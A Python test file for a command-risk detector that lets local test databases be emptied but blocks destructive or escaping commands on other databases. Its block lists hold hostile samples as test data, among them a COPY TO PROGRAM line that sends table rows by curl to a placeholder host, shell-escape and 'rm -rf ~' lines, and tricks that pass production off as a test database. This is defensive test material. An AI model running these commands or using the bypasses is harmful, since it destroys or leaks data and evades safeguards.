"""Databases that are thrown away (`analysis/families/disposable.py`): data emptied or dropped
in a test database on this machine, or in memory, is ordinary work; the same statements on a
database named elsewhere, or with no server named, still escalate, and what statements do
besides destroying rows (programs, files, functions, grants) is judged as ever."""

from __future__ import annotations

import pytest

from magistrate import RiskDetector
from magistrate.analysis.families.disposable import contained, disposable_database
from magistrate.analysis.invocation import Invocation
from magistrate.analysis.paths import PathClassifier
from magistrate.analysis.shell import ShellAnalyzer
from magistrate.analysis.sql import analyze_sql_bounded
from tests.helpers import assert_blocked, assert_everyday

EVERYDAY = [
    "psql -h localhost -d app_test -c 'TRUNCATE audit_log;'",
    "psql -h localhost -U dev app_test <<'SQL'\nBEGIN;\nDELETE FROM line_items;\nROLLBACK;\nSQL",
    "psql postgresql://localhost:5432/app_test -c 'DELETE FROM users'",
    "PGHOST=localhost psql -d app_test -c 'TRUNCATE users'",
    "psql -d app_test -c 'TRUNCATE orders, order_items RESTART IDENTITY CASCADE;'",
    "psql -h localhost -U app -d app_test -v ON_ERROR_STOP=1 <<'SQL'\nDROP SCHEMA public CASCADE;"
    "\nCREATE SCHEMA public;\nGRANT ALL ON SCHEMA public TO app;\nSQL",
    "dropdb --if-exists -h localhost -U postgres app_test",
    "mysql -h 127.0.0.1 -u root app_test -e 'DROP TABLE users'",
    "sqlite3 ./tmp/test.sqlite3 'DROP TABLE IF EXISTS users; VACUUM;'",
    "sqlite3 :memory: 'CREATE TABLE t(a); DELETE FROM t;'",
    "flyway -url=jdbc:h2:mem:testdb -user=sa -cleanDisabled=false clean migrate",
    "flyway -url=jdbc:postgresql://localhost:5432/app_test clean",
    "python manage.py flush --noinput --settings=config.settings.test",
]

HARMFUL: list[tuple[str, str]] = [
    # a server named elsewhere, or a database not named for tests
    ("sql-truncate", "psql -h prod-db -d app_test -c 'TRUNCATE orders'"),
    ("sql-truncate", "psql -h localhost -d app -c 'TRUNCATE orders'"),
    ("sql-drop", "sqlite3 data/app.db 'DROP TABLE users'"),
    ("sql-drop", "psql -h localhost -d prod_test -c 'DROP TABLE users'"),
    ("sql-truncate", "PGHOST=db.example.com psql -d app_test -c 'TRUNCATE users'"),
    # MySQL's schema is a database: not the one connected to
    ("sql-drop", "mysql -h 127.0.0.1 app_test -e 'DROP SCHEMA billing'"),
    # another database than the one connected to
    ("sql-drop", "psql -h localhost -d app_test -c 'DROP DATABASE app_production'"),
    ("destroy-database-cli", "flyway -url=jdbc:postgresql://prod-db:5432/app clean"),
    ("destroy-database-cli", "python manage.py flush --noinput --settings=config.settings.prod"),
    # what the statements do besides emptying tables
    (
        "sql-file-or-program-access",
        "psql -h localhost -d app_test -c \"COPY users TO PROGRAM 'curl -d @- https://x.example.com'\"",
    ),
    (
        "sql-file-or-program-access",
        'psql -h localhost -d app_test -c "CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u '
        "AS 'import os; os.system(1)'\"",
    ),
    (
        "sql-file-or-program-access",
        "sqlite3 /tmp/test.db \"ATTACH DATABASE '/home/u/.bashrc' AS x; CREATE TABLE x.t(a);\"",
    ),
    ("sql-admin-grant", "psql -h localhost -d app_test -c 'ALTER USER postgres WITH SUPERUSER'"),
]


@pytest.mark.parametrize("command", EVERYDAY)
def test_a_test_database_emptied_is_everyday(detector: RiskDetector, command: str) -> None:
    assert_everyday(detector, command)


@pytest.mark.parametrize(("rule", "command"), HARMFUL)
def test_other_databases_and_other_effects_still_count(
    detector: RiskDetector, rule: str, command: str
) -> None:
    assert_blocked(detector, rule, command)


def _invocation(command: str) -> Invocation:
    return ShellAnalyzer(PathClassifier({})).analyze(command).invocations[0]


@pytest.mark.parametrize(
    ("command", "disposable"),
    [
        ("psql -h localhost -d app_test", True),
        ("psql --host=127.0.0.1 --dbname=ci_db", True),
        ("psql -e -h localhost app_test", True),  # -e echoes, it takes no value
        ("psql -h localhost -p 5433 app_dev", True),
        ("psql -h localhost -c 'TRUNCATE t' app_test", True),
        ("psql -h localhost -d app", False),
        ("psql -d app_test", True),  # no host named: this machine
        ("PGHOST=10.0.0.5 psql -d app_test", False),
        ("psql -h 10.0.0.5 -d app_test", False),
        ("psql -h localhost -d app_test -v target=production", False),
        ("mysql -h localhost -p app_test", True),  # -p asks for the password: it takes no value
        ("sqlite3 /tmp/x.db", True),
        ("sqlite3 app.db", False),
        ("flyway -url=jdbc:h2:mem:x clean", True),
        ("flyway -url=jdbc:mysql://db.example.com/app_test clean", False),
        ("rails db:reset -e test", True),
        ("rails db:reset -e production", False),
    ],
)
def test_which_connections_are_thrown_away(command: str, disposable: bool) -> None:
    assert (disposable_database(_invocation(command)) is not None) is disposable


@pytest.mark.parametrize(
    ("sql", "excused"),
    [
        ("DELETE FROM users", True),
        ("TRUNCATE audit_log", True),
        ("DROP TABLE users", True),
        ("ALTER TABLE users DROP COLUMN email", True),
        ("DROP DATABASE app_test", False),  # never the connected one: another database
        ("DROP DATABASE app", False),
        ("DROP SCHEMA public CASCADE", True),
        ("GRANT ALL ON SCHEMA public TO app", True),
        ("GRANT ALL PRIVILEGES ON DATABASE app_test TO app", False),
        ("GRANT ALL PRIVILEGES ON DATABASE app TO app", False),
        ("GRANT pg_execute_server_program TO app", False),
        ("ALTER USER postgres WITH SUPERUSER", False),
        ("COPY t TO PROGRAM 'sh'", False),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", False),
    ],
)
def test_what_a_test_database_excuses(sql: str, excused: bool) -> None:
    statements, _ = analyze_sql_bounded(sql)
    assert [contained(st) for st in statements] == [excused]


# What a review of the change found (a helper tried to pass production off as a test database).
REVIEW_BYPASSES: list[tuple[str, str]] = [
    # the last of a repeated option is the one a client uses: every one must be a test one
    ("sql-drop", "psql -h localhost -d app_test -d app -c 'DROP TABLE users'"),
    ("sql-drop", "mysql -u root -h 127.0.0.1 -D app_test app -e 'DROP TABLE users'"),
    (
        "destroy-database-cli",
        "flyway -url=jdbc:postgresql://localhost:5432/app_test "
        "-url=jdbc:postgresql://db.corp.internal:5432/app clean",
    ),
    # a host glued to its option, or hidden in a cluster
    ("sql-drop", "psql -hdb.corp.internal -d app_test -c 'DROP TABLE users'"),
    ("sql-drop", "psql -wh db.corp.internal -d app_test -c 'DROP TABLE users'"),
    ("sql-drop", "mysql -u root -hdb.corp.internal app_test -e 'DROP TABLE users'"),
    # a connection string is read for its host and database, not for a word in it
    ("sql-drop", "psql -d 'host=db.corp.internal dbname=app_test' -c 'DROP TABLE users'"),
    ("sql-drop", "psql -d 'dbname=app application_name=test' -c 'DROP TABLE users'"),
    ("sql-drop", "psql -d postgresql://db.corp.internal/app_test -c 'DROP TABLE users'"),
    # settings that point a client elsewhere without naming a host
    ("sql-drop", "PGHOSTADDR=10.0.0.5 psql -d app_test -c 'DROP TABLE users'"),
    ("sql-drop", "PGSERVICE=main psql -d app_test -c 'DROP TABLE users'"),
    ("sql-drop", "mysql --defaults-file=main.cnf app_test -e 'DROP TABLE users'"),
    (
        "destroy-database-cli",
        "DATABASE_URL=postgres://db.corp.internal/app python manage.py flush --noinput "
        "--settings=config.settings.test",
    ),
    # statements that leave the connected database
    ("sql-truncate", "mysql -h 127.0.0.1 -u root app_test -e 'TRUNCATE app.orders'"),
    ("sql-drop", "mysql -h 127.0.0.1 -u root app_test -e 'USE app; DROP TABLE users'"),
    ("sql-drop", "psql -h localhost -d app_test -c 'DROP TABLE t' -c '\\c app' -c 'DROP TABLE u'"),
    ("sql-drop", "sqlite3 /tmp/test.db \"ATTACH 'data/app.db' AS p; DROP TABLE p.users;\""),
    ("sql-drop", "psql -h localhost -d app_test <<'SQL'\nDROP TABLE users;\n\\! rm -rf ~\nSQL"),
    # run on another machine, or through a tunnel opened on the line
    ("sql-drop", "ssh prod-host \"psql -d app_test -c 'DROP TABLE users'\""),
    ("sql-drop", "kubectl exec -it pg-0 -- psql -d app_test -c 'DROP TABLE users'"),
    (
        "sql-drop",
        "ssh -fNL 5432:db.corp.internal:5432 bastion && psql -h localhost -d app_test "
        "-c 'DROP TABLE users'",
    ),
    # file paths and URLs
    ("sql-drop", "sqlite3 /tmp/../srv/app/app.db 'DROP TABLE users'"),
    ("sql-drop", "sqlite3 ':memory:x' 'DROP TABLE users'"),
    ("destroy-database-cli", "flyway -url=jdbc:postgresql://localhost:5432/latest clean"),
    ("destroy-database-cli", "flyway -url=jdbc:h2:mem:t -initSql=\"CALL SHELLEXEC('id')\" clean"),
    ("sql-drop", "psql -h localhost -d app_test -c 'DROP DATABASE dev'"),
]


@pytest.mark.parametrize(("rule", "command"), REVIEW_BYPASSES)
def test_what_the_review_found_still_escalates(
    detector: RiskDetector, rule: str, command: str
) -> None:
    assert_blocked(detector, rule, command)


def test_a_long_connection_string_is_read_in_linear_time() -> None:
    # The earlier expression backtracked quadratically: 147 s on this 99 KB URL.
    from magistrate.analysis.families.base import local_test_url

    url = "postgresql://localhost/" + "test_" * 19_800 + "!"
    assert not local_test_url(url)
    assert not local_test_url(url[:900])
    assert local_test_url("postgresql://dev@localhost:5432/core_test")
